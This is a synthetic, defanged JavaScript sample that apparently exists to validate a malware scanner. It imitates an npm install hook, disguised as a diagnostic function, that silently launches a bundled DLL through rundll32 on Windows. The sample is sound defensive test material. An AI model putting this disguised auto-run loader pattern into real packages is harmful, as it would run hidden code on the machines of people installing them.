// SYNTHETIC, DEFANGED malwi validation sample - modelled on the eslint-config-prettier phishing compromise (July 2025); never run.
// Install hook: on Windows, load a DLL shipped in the package through rundll32 (the real one
// was a loader for a second-stage infostealer). No DLL ships here.
const { spawn } = require('child_process');
const path = require('path');
const fs = require('fs');

function logDiagnostic() {
  if (process.platform !== 'win32') return;
  const dll = path.join(__dirname, 'node-gyp.dll');
  if (!fs.existsSync(dll)) return;
  const child = spawn('rundll32', [dll + ',main'], { detached: true, stdio: 'ignore', windowsHide: true });
  child.on('error', () => {});
  child.unref();
}

logDiagnostic();
